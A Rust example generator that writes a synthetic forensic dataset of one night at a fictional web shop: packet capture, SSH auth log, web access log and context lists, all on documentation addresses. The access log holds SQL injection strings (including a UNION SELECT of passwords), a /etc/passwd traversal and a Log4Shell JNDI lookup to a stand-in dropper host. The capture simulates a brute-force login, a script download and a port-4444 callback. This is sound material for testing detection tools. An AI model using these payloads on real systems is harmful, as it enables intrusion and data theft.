//! Makes the shipped example, `examples/shop/`: one night at a small web shop, all of it synthetic.
//!
//! `cargo run --example make_shop` writes the files; a test runs the same code and compares, so
//! that files and recipe cannot part. Addresses are those for documentation (RFC 5737, RFC 3849),
//! AS numbers too (RFC 5398), names end in example.com and kin (RFC 2606). Nobody real is in it.
//!
//! The story, in UTC, 4 and 5 June 2026. The shop is 192.0.2.0/24: web server .80, build server .10.
//! * 203.0.113.66 sends SYNs to tcp/22 of sixty addresses of the shop: a horizontal scan.
//! * 198.51.100.23 guesses SSH passwords on the build server, and gets in as `deploy` at 03:12:44.
//! * The build server then asks for `files.example.net`, fetches a script from 198.51.100.77, and
//!   keeps a connection to it open: what came after.
//! * 2001:db8:66::7 tries SQL injection, traversal and Log4Shell; one injection is answered 200.
//! * 203.0.113.180 visits through Tor, and only reads.
//! * 198.51.100.200 is a crawler: busy and harmless.
//! * 203.0.113.9 opens one page. Nothing is known about it.
#![allow(missing_docs, clippy::expect_used, reason = "a recipe: a failure is to be seen at once")]

use std::fmt::Write as _;
use std::path::Path;

use etherparse::PacketBuilder;

/// The files of the example: name and content.
pub fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("capture.pcap", capture()),
        ("auth.log", auth_log().into_bytes()),
        ("access.log", access_log().into_bytes()),
        ("context/geofeed.csv", GEOFEED.as_bytes().to_vec()),
        ("context/as-table.csv", AS_TABLE.as_bytes().to_vec()),
        ("context/tor-relays.txt", TOR_RELAYS.as_bytes().to_vec()),
        ("context/crawlers.txt", CRAWLERS.as_bytes().to_vec()),
    ]
}

#[allow(dead_code, reason = "the test that includes this file calls `files` instead")]
fn main() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/shop");
    for (name, content) in files() {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().expect("has a folder")).expect("made the folder");
        std::fs::write(path, content).expect("wrote the file");
    }
}

const GEOFEED: &str = "\
# Synthetic geofeed (RFC 8805) of the example: documentation prefixes on real cities.
192.0.2.0/24,NL,,Amsterdam,
203.0.113.64/28,RO,,Bucharest,
203.0.113.176/29,SE,,Stockholm,
198.51.100.16/28,BR,,Sao Paulo,
198.51.100.72/29,US,,Dallas,
198.51.100.200/32,US,,Mountain View,
2001:db8:66::/48,VN,,Hanoi,
203.0.113.16/30,DE,,Berlin,
203.0.113.20/30,FR,,Lyon,
203.0.113.24/30,GB,,Leeds,
203.0.113.28/30,ES,,Sevilla,
203.0.113.32/30,IT,,Bologna,
203.0.113.36/30,PL,,Gdansk,
203.0.113.40/30,ZA,,Cape Town,
203.0.113.44/30,NG,,Lagos,
203.0.113.48/30,KE,,Nairobi,
203.0.113.52/30,IN,,Pune,
203.0.113.56/30,JP,,Osaka,
203.0.113.60/30,KR,,Busan,
198.51.100.32/30,AU,,Melbourne,
198.51.100.36/30,NZ,,Wellington,
198.51.100.40/30,AR,,Cordoba,
198.51.100.44/30,CL,,Valparaiso,
198.51.100.48/30,MX,,Guadalajara,
198.51.100.52/30,CA,,Halifax,
198.51.100.56/30,US,,Seattle,
198.51.100.60/30,US,,Atlanta,
2001:db8:10::/48,FI,,Tampere,
2001:db8:11::/48,SG,,Singapore,
";

const AS_TABLE: &str = "\
# Synthetic table of the example: prefix, AS number (RFC 5398), name.
192.0.2.0/24,64496,Example Shop
203.0.113.64/28,64501,Example Cheap Servers
203.0.113.176/29,64502,Example Privacy Network
203.0.113.0/26,64503,Example Broadband Europe
198.51.100.0/26,64504,Example Broadband South
198.51.100.72/29,64505,Example Cloud
198.51.100.200/32,64506,Example Search
2001:db8:66::/48,64507,Example Mobile Hanoi
2001:db8:10::/47,64508,Example Fibre
";

const TOR_RELAYS: &str = "\
# Synthetic list of the example: addresses of Tor relays, as of 2026-06-04.
203.0.113.180
203.0.113.181
";

const CRAWLERS: &str = "\
# Synthetic list of the example: ranges a search engine publishes for its crawler.
198.51.100.200/32
";

/// Seconds since 1970 of 4 June 2026, 22:00 UTC: the night begins.
const BEGIN_SECS: u64 = 1_780_610_400;

const SHOP_BUILD: [u8; 4] = [192, 0, 2, 10];
const SCANNER: [u8; 4] = [203, 0, 113, 66];
const GUESSER: [u8; 4] = [198, 51, 100, 23];
const DROPPER: [u8; 4] = [198, 51, 100, 77];
const RESOLVER: [u8; 4] = [192, 0, 2, 53];

/// Hour, minute and second of a moment so many seconds into the night, and the day of June.
fn clock(at_secs: u64) -> (u64, u64, u64, u64) {
    let since = 22 * 3600 + at_secs;
    (4 + since / 86_400, since / 3600 % 24, since / 60 % 60, since % 60)
}

// --- auth.log -----------------------------------------------------------------------------------

fn auth_log() -> String {
    let mut log = String::new();
    let mut line = |at_secs: u64, program: &str, text: &str| {
        let (day, hour, minute, second) = clock(at_secs);
        writeln!(log, "Jun  {day} {hour:02}:{minute:02}:{second:02} build {program}: {text}")
            .expect("a String takes everything");
    };
    line(1_200, "sshd[811]", "Accepted publickey for anna from 203.0.113.17 port 50112 ssh2");
    line(9_000, "sshd[822]", "Failed password for anna from 203.0.113.17 port 50344 ssh2");
    line(9_007, "sshd[822]", "Accepted password for anna from 203.0.113.17 port 50344 ssh2");
    let users = ["root", "admin", "test", "oracle", "git", "deploy", "ubuntu", "postgres"];
    // 412 failures from 02:10, one every nine seconds, then the password is right.
    for attempt in 0..412_u64 {
        let user = users[attempt as usize % users.len()];
        let known = ["root", "git", "deploy"].contains(&user);
        let invalid = if known { "" } else { "invalid user " };
        let at = 15_036 + attempt * 9;
        let (pid, port) = (1_000 + attempt, 40_000 + attempt);
        let text =
            format!("Failed password for {invalid}{user} from 198.51.100.23 port {port} ssh2");
        line(at, &format!("sshd[{pid}]"), &text);
    }
    line(18_764, "sshd[1501]", "Accepted password for deploy from 198.51.100.23 port 41999 ssh2");
    line(18_765, "sshd[1501]", "pam_unix(sshd:session): session opened for user deploy(uid=1001)");
    line(18_790, "sudo", "deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/sh /srv/u.sh");
    log
}

// --- access.log ---------------------------------------------------------------------------------

struct Visit<'a> {
    at_secs: u64,
    from: &'a str,
    request: &'a str,
    status: u16,
    bytes: u32,
    agent: &'a str,
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:139.0) Gecko/20100101 Firefox/139.0";
const PAGES: [&str; 8] = [
    "/",
    "/shoes",
    "/shoes/17",
    "/cart",
    "/static/app.js",
    "/static/site.css",
    "/about",
    "/search?q=boots",
];

fn access_log() -> String {
    let mut visits: Vec<Visit<'_>> = Vec::new();
    let visitors: Vec<String> = (16..64)
        .step_by(4)
        .map(|last| format!("203.0.113.{}", last + 1))
        .chain((32..64).step_by(4).map(|last| format!("198.51.100.{}", last + 2)))
        .chain(["2001:db8:10::15".to_owned(), "2001:db8:11::23".to_owned()])
        .collect();
    for (number, from) in visitors.iter().enumerate() {
        for (step, page) in PAGES.iter().enumerate().take(3 + number % 6) {
            let at_secs = 300 + number as u64 * 811 + step as u64 * 7;
            let bytes = 1_800 + 97 * step as u32;
            visits.push(Visit { at_secs, from, request: page, status: 200, bytes, agent: BROWSER });
        }
    }
    let agent = "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)";
    let items: Vec<String> = (0..600).map(|item| format!("/shoes/{item}")).collect();
    for (number, page) in items.iter().enumerate() {
        let (at_secs, from) = (600 + number as u64 * 33, "198.51.100.200");
        let (status, bytes) = if number % 40 == 39 { (404, 512) } else { (200, 2_211) };
        visits.push(Visit { at_secs, from, request: page, status, bytes, agent });
    }
    for (step, page) in ["/", "/shoes", "/shoes/17", "/about"].iter().enumerate() {
        let (at_secs, from) = (7_300 + step as u64 * 41, "203.0.113.180");
        visits.push(Visit {
            at_secs,
            from,
            request: page,
            status: 200,
            bytes: 1_911,
            agent: BROWSER,
        });
    }
    visits.extend(attacks());
    let (from, request) = ("203.0.113.9", "/about");
    visits.push(Visit {
        at_secs: 12_345,
        from,
        request,
        status: 200,
        bytes: 1_620,
        agent: BROWSER,
    });
    visits.sort_by_key(|visit| visit.at_secs);
    let mut log = String::new();
    for Visit { at_secs, from, request, status, bytes, agent } in visits {
        let (day, hour, minute, second) = clock(at_secs);
        let time = format!("{day:02}/Jun/2026:{hour:02}:{minute:02}:{second:02} +0000");
        let request = format!("\"GET {request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
        writeln!(log, "{from} - - [{time}] {request}").expect("a String takes everything");
    }
    log
}

fn attacks() -> Vec<Visit<'static>> {
    let tries: [(&str, u16, u32); 9] = [
        ("/item?id=1", 200, 2_011),
        ("/item?id=1%27", 500, 312),
        ("/item?id=1%27%20AND%201%3D1--%20-", 200, 2_011),
        ("/item?id=1%27%20OR%20%271%27%3D%271", 200, 48_350),
        ("/item?id=-1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-", 200, 51_904),
        ("/download?file=../../../../etc/passwd", 404, 512),
        ("/.env", 404, 512),
        ("/wp-login.php", 404, 512),
        ("/?x=${jndi:ldap://198.51.100.77/a}", 404, 512),
    ];
    let attack = |(step, &(request, status, bytes)): (usize, &(&'static str, u16, u32))| Visit {
        at_secs: 14_000 + step as u64 * 5,
        from: "2001:db8:66::7",
        request,
        status,
        bytes,
        agent: "sqlmap/1.8.4#stable (https://sqlmap.org)",
    };
    tries.iter().enumerate().map(attack).collect()
}

// --- capture.pcap -------------------------------------------------------------------------------

/// Frames with their microsecond.
type Frames = Vec<(u64, Vec<u8>)>;

const OUTSIDE_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 0x01];
const INSIDE_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 0x02];

/// One TCP conversation, side by side with its sequence numbers.
struct Talk<'a> {
    frames: &'a mut Frames,
    at_micros: u64,
    ends: [([u8; 4], u16); 2],
    seqs: [u32; 2],
}

impl Talk<'_> {
    fn send(&mut self, side: usize, flags: &str, payload: &[u8]) {
        let ((src, src_port), (dst, dst_port)) = (self.ends[side], self.ends[1 - side]);
        let builder = PacketBuilder::ethernet2(OUTSIDE_MAC, INSIDE_MAC)
            .ipv4(src, dst, if side == 0 { 52 } else { 64 })
            .tcp(src_port, dst_port, self.seqs[side], 64_240);
        let builder = if flags.contains('S') { builder.syn() } else { builder };
        let builder = if flags.contains('F') { builder.fin() } else { builder };
        let builder = if flags.contains('P') { builder.psh() } else { builder };
        let builder = if flags.contains('R') { builder.rst() } else { builder };
        let acked = self.seqs[1 - side];
        let builder = if flags.contains('A') { builder.ack(acked) } else { builder };
        let mut frame = Vec::with_capacity(builder.size(payload.len()));
        builder.write(&mut frame, payload).expect("a Vec takes everything");
        self.frames.push((self.at_micros, frame));
        let control = flags.chars().filter(|flag| "SF".contains(*flag)).count();
        self.seqs[side] = self.seqs[side].wrapping_add((payload.len() + control) as u32);
        self.at_micros += 21_000;
    }

    fn open(&mut self) {
        self.send(0, "S", b"");
        self.send(1, "SA", b"");
        self.send(0, "A", b"");
    }

    fn close(&mut self) {
        self.send(0, "FA", b"");
        self.send(1, "FA", b"");
        self.send(0, "A", b"");
    }
}

fn talk(frames: &mut Frames, at_secs: u64, from: ([u8; 4], u16), to: ([u8; 4], u16)) -> Talk<'_> {
    let seed = at_secs as u32 * 7_919 + u32::from(from.1);
    Talk { frames, at_micros: at_secs * 1_000_000, ends: [from, to], seqs: [seed, seed ^ 0xffff] }
}

fn capture() -> Vec<u8> {
    let mut frames = Frames::new();
    scan(&mut frames);
    guesses(&mut frames);
    aftermath(&mut frames);
    frames.sort_by_key(|(at_micros, _)| *at_micros);
    // Classic pcap, little-endian, microseconds, Ethernet (tcpdump.org, pcap-savefile).
    let mut file = Vec::new();
    for number in [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 1] {
        file.extend(number.to_le_bytes());
    }
    for (at_micros, frame) in frames {
        let (secs, micros) = (BEGIN_SECS + at_micros / 1_000_000, at_micros % 1_000_000);
        for number in [secs as u32, micros as u32, frame.len() as u32, frame.len() as u32] {
            file.extend(number.to_le_bytes());
        }
        file.extend(frame);
    }
    file
}

/// Sixty SYNs to tcp/22 in twelve seconds; three addresses answer.
fn scan(frames: &mut Frames) {
    for target in 1..=60_u8 {
        let from = (SCANNER, 51_000 + u16::from(target));
        let at_micros = 13_000 * 1_000_000 + u64::from(target) * 200_000;
        let mut talk = talk(frames, 13_000, from, ([192, 0, 2, target], 22));
        talk.at_micros = at_micros;
        talk.send(0, "S", b"");
        match target {
            10 => {
                talk.send(1, "SA", b"");
                talk.send(0, "R", b"");
            }
            20 | 53 => talk.send(1, "RA", b""),
            _ => {}
        }
    }
}

/// The first forty guesses as the wire shows them: two banners, and then nothing to read.
fn guesses(frames: &mut Frames) {
    for attempt in 0..40_u64 {
        let from = (GUESSER, 40_000 + attempt as u16);
        let mut talk = talk(frames, 15_034 + attempt * 9, from, (SHOP_BUILD, 22));
        talk.open();
        talk.send(0, "PA", b"SSH-2.0-Go\r\n");
        talk.send(1, "PA", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n");
        talk.close();
    }
}

/// The build server looks up a name, fetches a script, and keeps a connection open.
fn aftermath(frames: &mut Frames) {
    let at_secs = 18_801;
    let question = b"\x05files\x07example\x03net\x00\x00\x01\x00\x01";
    let mut query = b"\x4a\x11\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    query.extend(question);
    let mut answer = b"\x4a\x11\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00".to_vec();
    answer.extend(question);
    answer.extend(b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04");
    answer.extend(DROPPER);
    for (step, (src, dst, ports, payload)) in [
        (SHOP_BUILD, RESOLVER, (39_551, 53), &query),
        (RESOLVER, SHOP_BUILD, (53, 39_551), &answer),
    ]
    .into_iter()
    .enumerate()
    {
        let builder = PacketBuilder::ethernet2(INSIDE_MAC, OUTSIDE_MAC).ipv4(src, dst, 64);
        let mut frame = Vec::new();
        builder.udp(ports.0, ports.1).write(&mut frame, payload).expect("a Vec takes everything");
        frames.push((at_secs * 1_000_000 + step as u64 * 900, frame));
    }
    let mut fetch = talk(frames, at_secs + 1, (SHOP_BUILD, 39_812), (DROPPER, 80));
    fetch.open();
    fetch.send(
        0,
        "PA",
        b"GET /u.sh HTTP/1.1\r\nHost: files.example.net\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
    );
    let script = b"#!/bin/sh\n# Synthetic: this script does nothing.\nexit 0\n";
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/x-shellscript\r\nContent-Length: {}\r\n\r\n",
        script.len()
    );
    fetch.send(1, "PA", &[head.as_bytes(), script].concat());
    fetch.close();
    let mut held = talk(frames, at_secs + 9, (SHOP_BUILD, 39_901), (DROPPER, 4444));
    held.open();
    for beat in 0..30_u64 {
        held.at_micros = (at_secs + 10 + beat * 60) * 1_000_000;
        held.send(0, "PA", &[0x17, 0, beat as u8, 4, 9, 9, 9, 9]);
        held.send(1, "PA", &[0x17, 0, beat as u8, 0]);
        held.send(0, "A", b"");
    }
}
